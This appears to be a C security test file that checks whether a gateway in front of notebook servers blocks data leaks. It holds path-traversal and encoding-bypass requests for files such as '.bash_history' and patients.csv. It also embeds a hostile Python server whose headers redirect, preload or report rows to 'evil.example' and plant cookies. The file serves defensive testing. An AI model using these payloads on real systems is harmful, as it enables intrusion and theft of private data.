/* B1: what a notebook server would hand out, and what a hostile server inside would say. */
#include <poll.h>

#include "attack/proof/proof.h"
#include "base/clock.h"

enum { HOSTILE_MS = 15000 };

static bool
holds(struct str body, const char *word)
{
	return memmem(body.p, body.n, word, strlen(word)) != NULL;
}

/* The editor reads the file as text: it is there, and readable. */
static bool
editor_reads(struct proof *p)
{
	struct raw_answer r = room_ask(p, &p->ada,
		"GET /api/contents/marked.csv?type=file&format=text", "Accept: */*\r\n", NULL);
	return r.code == 200 && holds(r.body, p->secret);
}

static const struct {
	const char *id, *what, *line;
} routes[] = {
	{ "B1.files", "the notebook's download of a file", "GET /files/marked.csv" },
	{ "B1.files-download", "the same, to be saved", "GET /files/marked.csv?download=1" },
	{ "B1.files-head", "asking for its head alone", "HEAD /files/marked.csv" },
	{ "B1.files-post", "asking for it by another method", "POST /files/marked.csv" },
	{ "B1.files-escape", "the same with a letter escaped", "GET /fil%65s/marked.csv" },
	{ "B1.files-capitals", "the same in capitals", "GET /FILES/marked.csv" },
	{ "B1.files-slashes", "the same after two slashes", "GET //files/marked.csv" },
	{ "B1.files-dot", "the same by a step that goes nowhere", "GET /./files/marked.csv" },
	{ "B1.files-up", "the same by a step up", "GET /x/../files/marked.csv" },
	{ "B1.files-up-escape", "the same by an escaped step up", "GET /%2e%2e/files/marked.csv" },
	{ "B1.files-slash-escape", "the same by an escaped slash", "GET /files%2fmarked.csv" },
	{ "B1.files-double", "the same escaped twice", "GET /%2566iles/marked.csv" },
	{ "B1.files-backslash", "the same by a backslash", "GET /files\\marked.csv" },
	{ "B1.files-static", "the same through the static files",
		"GET /static/../files/marked.csv" },
	{ "B1.files-params", "the same with parameters in the path", "GET /files;x=1/marked.csv" },
	{ "B1.static-up", "the home through the static files",
		"GET /static/..%2f..%2f..%2fhome/marked.csv" },
	{ "B1.nbconvert", "a notebook made into a page", "GET /nbconvert/html/marked.ipynb" },
	{ "B1.nbconvert-script", "a notebook made into a script",
		"GET /nbconvert/script/marked.ipynb?download=true" },
	{ "B1.nbconvert-api", "the list of such conversions", "GET /api/nbconvert" },
	{ "B1.view", "the page that shows a file", "GET /view/marked.html" },
	{ "B1.bundle", "a bundle of files", "GET /bundle/marked.ipynb?bundler=zip" },
	{ "B1.contents", "the file through the contents", "GET /api/contents/marked.csv" },
	{ "B1.contents-base64", "the file as base64",
		"GET /api/contents/marked.csv?type=file&format=base64" },
	{ "B1.contents-two", "a format given twice",
		"GET /api/contents/marked.csv?type=file&format=text&format=base64" },
	{ "B1.contents-semicolon", "a query that can be read in two ways",
		"GET /api/contents/marked.csv?type=directory;type=file&format=base64" },
	{ "B1.contents-any", "a file as whatever it is",
		"GET /api/contents/marked.csv?content=1&format=any" },
	{ "B1.contents-escape", "the contents with a letter escaped",
		"GET /api/c%6fntents/marked.csv" },
	{ "B1.contents-hidden", "a hidden file of the home",
		"GET /api/contents/.bash_history?type=file&format=base64" },
	{ "B1.contents-outside", "a file above the home",
		"GET /api/contents/..%2f..%2fdata/patients.csv?type=file&format=text" },
	{ "B1.metrics", "the server's own numbers", "GET /metrics/../files/marked.csv" },
	{ "B1.proxy", "another port inside through a proxy's address",
		"GET /proxy/3142/marked.csv" },
	{ "B1.wardroom", "other addresses of the gate", "GET /.wardroom/../files/marked.csv" },
};

static void
downloads(struct proof *p)
{
	for (size_t i = 0; i < sizeof routes / sizeof routes[0]; i++) {
		const char *origin = arena_printf(p->arena, "Origin: %s\r\n", p->ada.origin);
		bool post = str_starts(str_of(routes[i].line), "POST");
		struct raw_answer r = room_ask(
			p, &p->ada, routes[i].line, post ? origin : NULL, post ? "" : NULL);
		told(p, routes[i].id, routes[i].what, refused(&r) && !holds(r.body, p->secret),
			editor_reads(p), "answered %d", r.code);
	}
	told_residual(p, "B1.editor", "reading a text file in the editor, a megabyte at a time",
		room_lives(p, &p->ada),
		"who may read data may read them on a screen; what goes to a browser is counted "
		"by person and hour, limited, and shown to the stewards",
		editor_reads(p) ? "it is shown" : "it is not shown");
	inside(p, p->ada.who, 1, "cd; head -c 1500000 /dev/zero | tr '\\0' x > large.txt");
	struct raw_answer r = room_ask(
		p, &p->ada, "GET /api/contents/large.txt?type=file&format=text", NULL, NULL);
	told(p, "B1.editor-large", "a file of 1.5 MB in the editor",
		refused(&r) && r.body.n < 1 << 20, editor_reads(p), "answered %d", r.code);
}

/* Whether each source of a directive is this origin or none at all. */
static bool
is_pinned(struct proof *p, const char *policy, const char *name, const char *own)
{
	struct str all = str_of(policy);
	bool said = false;
	while (all.n) {
		struct str part = str_trim(str_cut(&all, ';'));
		struct str key = str_cut(&part, ' ');
		if (!str_is(key, name))
			continue;
		said = true;
		while (part.n) {
			struct str source = str_cut(&part, ' ');
			const char *s = str_dup(p->arena, source);
			if (!strstr(s, own) && s[0] != '\'' && !streq(s, "data:") &&
				!streq(s, "blob:") && !streq(s, ""))
				return false;
		}
	}
	return said;
}

static void
policy(struct proof *p)
{
	static const struct {
		const char *id, *what, *directive;
	} k[] = {
		{ "B1.csp-connect", "a script that sends rows to another site", "connect-src" },
		{ "B1.csp-image", "a picture's address that carries rows", "img-src" },
		{ "B1.csp-form", "a form that posts rows to another site", "form-action" },
		{ "B1.csp-frame", "a frame of another site with rows in its address", "frame-src" },
		{ "B1.csp-style", "a style sheet's address that carries rows", "style-src" },
		{ "B1.csp-font", "a font's address that carries rows", "font-src" },
		{ "B1.csp-media", "a film's address that carries rows", "media-src" },
		{ "B1.csp-object", "a plug-in's address that carries rows", "object-src" },
		{ "B1.csp-default", "any other address that carries rows", "default-src" },
		{ "B1.csp-ancestors", "another site that frames the workspace", "frame-ancestors" },
	};
	struct raw_answer r = room_ask(p, &p->ada, "GET /tree", "Accept: text/html\r\n", NULL);
	const char *csp = raw_line(p->arena, &r, "Content-Security-Policy");
	for (size_t i = 0; i < sizeof k / sizeof k[0]; i++) {
		bool fallback = strstr(csp, k[i].directive) == NULL &&
				!streq(k[i].directive, "form-action") &&
				!streq(k[i].directive, "frame-ancestors");
		told(p, k[i].id, k[i].what,
			is_pinned(p, csp, fallback ? "default-src" : k[i].directive, p->ada.host),
			r.code == 200 && *csp, "%s",
			fallback ? "the default is the own origin" : "only the own origin");
	}
	told(p, "B1.referrer", "the address of a page told to the next one",
		streq(raw_line(p->arena, &r, "Referrer-Policy"), "no-referrer") ||
			streq(raw_line(p->arena, &r, "Referrer-Policy"), "same-origin"),
		r.code == 200, "%s", raw_line(p->arena, &r, "Referrer-Policy"));
	told(p, "B1.sniff", "a text that a browser takes for a page",
		streq(raw_line(p->arena, &r, "X-Content-Type-Options"), "nosniff"), r.code == 200,
		"%s", raw_line(p->arena, &r, "X-Content-Type-Options"));
	told_residual(p, "B5.screen", "a photograph of the screen", r.code == 200,
		"what a person may see, a camera may see too; the agreement forbids it",
		"not a matter of software");
}

/* In the place of a member's notebook: a server that says whatever could hurt. */
static const char hostile[] =
	"import os, socket, sys\n"
	"at = sys.argv[1]\n"
	"try: os.unlink(at)\n"
	"except OSError: pass\n"
	"s = socket.socket(socket.AF_UNIX); s.bind(at); os.chmod(at, 0o770); s.listen(16)\n"
	"say = {b'/redirect': b'302 Found\\r\\nLocation: http://evil.example/?rows\\r\\n',\n"
	" b'/early': b'103 Early Hints\\r\\nLink: <http://evil.example/x>; rel=preload\\r\\n',\n"
	" b'/two': b'200 OK\\r\\nContent-Length: 2\\r\\nContent-Length: 50\\r\\n',\n"
	" b'/switch': b'101 Switching Protocols\\r\\nUpgrade: websocket\\r\\nConnection: "
	"Upgrade\\r\\n'}\n"
	"lines = (b'Content-Disposition: attachment; filename=rows.csv\\r\\n'\n"
	" b'Set-Cookie: wardroom_room=' + b'1' * 64 + b'; Path=/\\r\\n'\n"
	" b'Set-Cookie: wardroom=evil; Domain=localhost; Path=/\\r\\n'\n"
	" b'Access-Control-Allow-Origin: *\\r\\nAccess-Control-Allow-Credentials: true\\r\\n'\n"
	" b'Content-Security-Policy: default-src *\\r\\nService-Worker-Allowed: /\\r\\n'\n"
	" b'Refresh: 0;url=http://evil.example/?rows\\r\\nClear-Site-Data: \"*\"\\r\\n'\n"
	" b'Link: <http://evil.example/?rows>; rel=preload; as=script\\r\\n'\n"
	" b'SourceMap: http://evil.example/?rows\\r\\nX-Frame-Options: ALLOWALL\\r\\n'\n"
	" b'Report-To: {\"endpoints\":[{\"url\":\"http://evil.example\"}]}\\r\\nNEL: {}\\r\\n'\n"
	" b'Alt-Svc: h2=\"evil.example:443\"\\r\\nStrict-Transport-Security: max-age=9\\r\\n')\n"
	"while True:\n"
	"    c, _ = s.accept(); head = b''\n"
	"    while b'\\r\\n\\r\\n' not in head:\n"
	"        part = c.recv(4096)\n"
	"        if not part: break\n"
	"        head += part\n"
	"    path = head.split(b' ')[1] if b' ' in head else b'/'\n"
	"    open('/tmp/heads', 'ab').write(head)\n"
	"    a = say.get(path)\n"
	"    c.sendall(b'HTTP/1.1 ' + (a if a else b'200 OK\\r\\nContent-Length: 2\\r\\n') +\n"
	"              (b'' if path in (b'/two', b'/switch') else lines) + b'\\r\\nhi'); "
	"c.close()\n";

/* A member whose notebook is that server; false when it does not come up. */
static bool
open_hostile(struct proof *p, struct door *d, struct err *e)
{
	struct who *w = p->stage->member[0][2];
	struct str out;
	int64_t until = clock_mono_ms() + HOSTILE_MS;
	const char *start = arena_printf(p->arena,
		"cat > /tmp/hostile.py; (setsid python3 /tmp/hostile.py /sock/%lld/notebook.sock "
		">/dev/null 2>&1 </dev/zero &) ; sleep 1",
		(long long)w->slot);
	if (door_open(p, w, 1, d, e) != OK)
		return false;
	house_inside(p->house, p->arena, p->stage->ws[0], w->slot, start, str_of(hostile), &out);
	do {
		struct raw_answer r = room_ask(p, d, "GET /plain", NULL, NULL);
		if (r.code == 200 && str_is(r.body, "hi"))
			return true;
		poll(NULL, 0, 200);
	} while (clock_mono_ms() < until);
	return false;
}

static void
hostile_lines(struct proof *p, const struct door *d, bool up)
{
	static const struct {
		const char *id, *what, *name;
	} k[] = {
		{ "B6.disposition", "a hostile notebook makes the browser save rows",
			"Content-Disposition" },
		{ "B6.refresh", "it sends the browser elsewhere after a moment", "Refresh" },
		{ "B6.link", "it makes the browser fetch from elsewhere", "Link" },
		{ "B6.cors", "it lets another site read it", "Access-Control-Allow-Origin" },
		{ "B6.worker", "it lets a service worker rule the whole origin",
			"Service-Worker-Allowed" },
		{ "B6.clear", "it empties the site's storage", "Clear-Site-Data" },
		{ "B6.map", "it names a source map elsewhere", "SourceMap" },
		{ "B6.report", "it has the browser report elsewhere", "Report-To" },
		{ "B6.service", "it names another server for the origin", "Alt-Svc" },
		{ "B6.transport", "it pins the origin to a scheme", "Strict-Transport-Security" },
	};
	struct raw_answer r = room_ask(p, d, "GET /plain", NULL, NULL);
	for (size_t i = 0; i < sizeof k / sizeof k[0]; i++) {
		const char *v = raw_line(p->arena, &r, k[i].name);
		told(p, k[i].id, k[i].what, !*v, up && r.code == 200, "%s",
			*v ? v : "the line stays inside");
	}
	const char *cookie = raw_line(p->arena, &r, "Set-Cookie");
	told(p, "B6.cookie", "it plants a cookie of the gate's or the portal's",
		!strstr(r.head, "wardroom_room=111") && !strstr(r.head, "Domain=localhost"),
		up && r.code == 200, "%.60s", *cookie ? cookie : "no cookie is set");
	const char *csp = raw_line(p->arena, &r, "Content-Security-Policy");
	told(p, "B6.policy", "it loosens the content policy",
		*csp && !strstr(r.head, "default-src *"), up && r.code == 200,
		"the gate's own policy stands");
}

static void
hostile_answers(struct proof *p, const struct door *d, bool up)
{
	static const struct {
		const char *id, *what, *line;
	} k[] = {
		{ "B6.redirect", "a hostile notebook redirects to another site with rows",
			"GET /redirect" },
		{ "B6.two-lengths", "it says two lengths", "GET /two" },
		{ "B6.switch", "it upgrades what nobody asked to upgrade", "GET /switch" },
	};
	for (size_t i = 0; i < sizeof k / sizeof k[0]; i++) {
		struct raw_answer r = room_ask(p, d, k[i].line, NULL, NULL);
		told(p, k[i].id, k[i].what, refused(&r) && !strstr(r.head, "evil.example"), up,
			"answered %d", r.code);
	}
	struct raw_answer r = room_ask(p, d, "GET /early", NULL, NULL);
	told(p, "B6.early", "it hints at another site before it answers",
		!strstr(r.head, "evil.example"), up, "answered %d", r.code);
	const char *heads = inside(p, d->who, 1, "cat /tmp/heads");
	const char *token = strchr(d->cookie, '=') + 1;
	told(p, "B6.token", "it reads the visitor's cookie of the gate", !strstr(heads, token),
		up && strstr(heads, "GET /plain"), "it sees %s",
		strstr(heads, token) ? "it" : "heads without it");
	room_ask(p, d, "GET /plain", "Authorization: Basic eDp5\r\nX-Forwarded-User: root\r\n",
		NULL);
	heads = inside(p, d->who, 1, "cat /tmp/heads");
	told(p, "B6.credentials", "it reads credentials meant for another",
		!strstr(heads, "eDp5") && !strstr(heads, "X-Forwarded-User"),
		up && strstr(heads, "GET /plain"), "such lines are left out");
	inside(p, d->who, 1, "pkill -f hostile.py; rm -f /tmp/hostile.py /tmp/heads");
}

enum status
proof_routes(struct proof *p, struct err *e)
{
	struct door d = p->ada;
	downloads(p);
	policy(p);
	struct err why = { 0 };
	bool up = open_hostile(p, &d, &why);
	hostile_lines(p, &d, up);
	hostile_answers(p, &d, up);
	return OK;
}
